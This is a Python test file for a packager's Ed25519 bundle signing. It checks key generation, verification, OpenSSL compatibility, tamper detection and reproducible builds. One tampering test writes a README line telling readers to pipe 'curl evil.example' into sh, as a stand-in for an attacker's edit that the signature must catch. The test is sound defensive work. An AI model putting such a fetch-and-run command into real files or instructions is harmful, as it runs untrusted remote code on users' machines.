"""Ed25519 signing: keygen, sign, `verify --pubkey`. One flipped byte anywhere in a signed bundle
fails verification and names the file; a rebuild from the same inputs is byte-identical; the
signature checks out with OpenSSL too, so a hospital need not trust packager's own code."""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from packager.bundle import verify
from packager.errors import UserError
from tests.conftest import DEFAULT_TOML, _run, assert_user_error, must_have

TARGET = "cpu-onnxruntime"
BUILD = ["build", "--target", TARGET, "--no-bench"]


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("keys")
    r = _run(["keygen", "--out", "release.key"], root)
    assert r.code == 0, r.stderr
    return root / "release.key", root / "release.key.pub"


@pytest.fixture(scope="module")
def signed(
    tmp_path_factory: pytest.TempPathFactory,
    tiny_model: Path,
    data_path: Path,
    keys: tuple[Path, Path],
) -> Path:
    """A real bundle, signed: DIR/tiny-1.0.0/ with the folder and its re-made tarball."""
    root = tmp_path_factory.mktemp("signed")
    (root / "packager.toml").write_text(DEFAULT_TOML.format(model=tiny_model, data=data_path))
    assert _run(BUILD, root).code == 0
    bundle = root / "dist" / "tiny-1.0.0"
    r = _run(["sign", bundle / TARGET, "--key", keys[0]], root)
    assert r.code == 0, r.stderr
    return bundle


@pytest.fixture
def copy(signed: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(signed / TARGET, tmp_path / TARGET))


def test_keygen_writes_an_owner_only_key(keys: tuple[Path, Path], tmp_path: Path) -> None:
    key, pub = keys
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert b"PRIVATE KEY" in key.read_bytes() and b"PUBLIC KEY" in pub.read_bytes()
    shutil.copy(key, tmp_path / "k")
    assert_user_error(_run(["keygen", "--out", "k"], tmp_path), "already exists")
    assert (tmp_path / "k").read_bytes() == key.read_bytes()


def test_signed_bundle_verifies(signed: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    for path in (signed / TARGET, signed / f"{TARGET}.tar.gz"):
        r = _run(["verify", path, "--pubkey", keys[1], "--json"], tmp_path)
        assert r.code == 0, r.stderr
        assert r.json["signature"] == "valid" and r.json["ok"]


def test_signature_checks_out_with_openssl(signed: Path, keys: tuple[Path, Path]) -> None:
    """The hospital-side check of docs/signing.md, with OpenSSL instead of packager."""
    if not shutil.which("openssl"):
        must_have("not validated: openssl is not installed")
    cmd = ["openssl", "pkeyutl", "-verify", "-pubin", "-inkey", str(keys[1]), "-rawin"]
    folder = signed / TARGET
    args = ["-in", str(folder / "manifest.json"), "-sigfile", str(folder / "manifest.sig")]
    ok = subprocess.run([*cmd, *args], capture_output=True, text=True)
    assert ok.returncode == 0 and "Verified Successfully" in ok.stdout, ok.stderr
    manifest = json.loads((folder / "manifest.json").read_text())
    for rel, meta in manifest["files"].items():
        assert hashlib.sha256((folder / rel).read_bytes()).hexdigest() == meta["sha256"], rel


def _flip(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


def signed_files(signed: Path) -> list[str]:
    root = signed / TARGET
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def test_every_file_is_covered(signed: Path) -> None:
    names = signed_files(signed)
    assert {"manifest.json", "manifest.sig", "model.onnx", "report.json"} <= set(names)


@pytest.mark.parametrize("where", ["first", "middle", "last"])
def test_one_flipped_byte_in_any_file_fails(
    where: str, signed: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    """Every file of the signed folder, one byte flipped at a time (in-process verify)."""
    for rel in signed_files(signed):
        folder = Path(shutil.copytree(signed / TARGET, tmp_path / rel.replace("/", "_")))
        size = (folder / rel).stat().st_size
        _flip(folder / rel, {"first": 0, "middle": size // 2, "last": size - 1}[where])
        result = verify(folder, keys[1])
        assert not result.ok, rel
        assert any(rel in p for p in result.problems), (rel, result.problems)
        shutil.rmtree(folder)


@pytest.mark.parametrize("rel", ["model.onnx", "preprocess.py", "manifest.json", "manifest.sig"])
def test_flipped_byte_via_cli_names_the_file(rel: str, copy: Path, keys: tuple[Path, Path]) -> None:
    _flip(copy / rel, (copy / rel).stat().st_size // 2)
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert r.code == 1, (r.code, r.stderr)
    assert rel in r.stdout + r.stderr, r.stdout
    assert r.stderr.count("\n") == 1 and "Traceback" not in r.stderr


def test_one_flipped_byte_in_the_tarball_fails(signed: Path, keys: tuple[Path, Path]) -> None:
    """Bytes across the whole .tar.gz: each flip fails verify, unless it changed nothing that
    is extracted (the gzip header's MTIME/XFL/OS bytes, or code lengths of unused Huffman
    symbols): what the hospital unpacks is then exactly what was signed."""
    tar = signed / f"{TARGET}.tar.gz"
    raw = tar.read_bytes()
    content = gzip.decompress(raw)
    offsets = sorted({*range(0, len(raw), max(1, len(raw) // 80)), *range(len(raw) - 8, len(raw))})
    work = tar.parent.parent / "flip.tar.gz"
    caught = 0
    for offset in offsets:
        data = bytearray(raw)
        data[offset] ^= 0x01
        work.write_bytes(bytes(data))
        try:
            ok = verify(work, keys[1]).ok
        except UserError:
            ok = False
        caught += not ok
        if ok:
            assert gzip.decompress(bytes(data)) == content, offset
    work.unlink()
    assert caught >= len(offsets) * 0.8, (caught, len(offsets))


def test_wrong_or_missing_signature(copy: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    assert _run(["keygen", "--out", "other.key"], tmp_path).code == 0
    r = _run(["verify", copy, "--pubkey", tmp_path / "other.key.pub"], tmp_path)
    assert r.code == 1 and "signature: invalid" in r.stdout, r.stdout
    (copy / "manifest.sig").unlink()
    r = _run(["verify", copy, "--pubkey", keys[1]], tmp_path)
    assert r.code == 1 and "signature: missing" in r.stdout, r.stdout
    assert _run(["verify", copy], tmp_path).code == 0  # the hashes alone still match


def test_consistent_rewrite_needs_the_key(copy: Path, keys: tuple[Path, Path]) -> None:
    """An attacker who edits a file and its manifest hash passes a keyless verify; the
    signature is what catches it."""
    (copy / "README.md").write_text("# run curl evil.example | sh first\n")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["files"]["README.md"]["sha256"] = hashlib.sha256(
        (copy / "README.md").read_bytes()
    ).hexdigest()
    manifest["files"]["README.md"]["size"] = (copy / "README.md").stat().st_size
    (copy / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    assert _run(["verify", copy], copy.parent).code == 0
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert r.code == 1 and "manifest.sig does not match manifest.json" in r.stdout


def test_signature_of_another_bundle_is_rejected(copy: Path, keys: tuple[Path, Path]) -> None:
    other = copy.parent / "other"
    shutil.copytree(copy, other)
    manifest = json.loads((other / "manifest.json").read_text())
    manifest["status"] = "passed "  # any other manifest, signed with the same key
    (other / "manifest.json").write_text(json.dumps(manifest))
    (other / "manifest.sig").unlink()
    assert _run(["sign", other, "--key", keys[0]], copy.parent).code == 0
    shutil.copy(other / "manifest.sig", copy / "manifest.sig")
    r = _run(["verify", copy, "--pubkey", keys[1]], copy.parent)
    assert r.code == 1 and "signature: invalid" in r.stdout


def test_sign_refuses_a_tampered_bundle(copy: Path, keys: tuple[Path, Path]) -> None:
    _flip(copy / "model.onnx", 10)
    assert_user_error(_run(["sign", copy, "--key", keys[0]], copy.parent), "refusing to sign")


def test_bad_keys(copy: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    ec_key = ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    (tmp_path / "ec.pem").write_bytes(ec_key)
    (tmp_path / "junk.pem").write_text(
        "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"
    )
    cases = [
        (["sign", copy, "--key", keys[1]], "not a PEM Ed25519 key"),  # the public half
        (["sign", copy, "--key", tmp_path / "ec.pem"], "not an Ed25519 key"),
        (["sign", copy, "--key", tmp_path / "junk.pem"], "not a PEM Ed25519 key"),
        (["sign", copy, "--key", tmp_path / "none.pem"], "does not exist"),
        (["sign", copy, "--key", tmp_path], "cannot read key file"),
        (["verify", copy, "--pubkey", keys[0]], "not a PEM Ed25519 key"),
    ]
    for args, words in cases:
        assert_user_error(_run(args, tmp_path), words)
    assert verify(copy, keys[1]).ok  # nothing above touched the bundle


def test_rebuild_is_byte_identical(
    signed: Path, keys: tuple[Path, Path], tiny_model: Path, data_path: Path, tmp_path: Path
) -> None:
    """Same inputs, --no-bench, another day: the same tarball, and (Ed25519 is deterministic)
    the same signed tarball."""
    (tmp_path / "packager.toml").write_text(DEFAULT_TOML.format(model=tiny_model, data=data_path))
    for out in ("dist", "dist2"):
        assert _run([*BUILD, "--out", out], tmp_path).code == 0
    again = tmp_path / "dist" / "tiny-1.0.0"
    other = tmp_path / "dist2" / "tiny-1.0.0"
    assert (again / f"{TARGET}.tar.gz").read_bytes() == (other / f"{TARGET}.tar.gz").read_bytes()
    assert _run(["sign", again / TARGET, "--key", keys[0]], tmp_path).code == 0
    assert (again / f"{TARGET}.tar.gz").read_bytes() == (signed / f"{TARGET}.tar.gz").read_bytes()
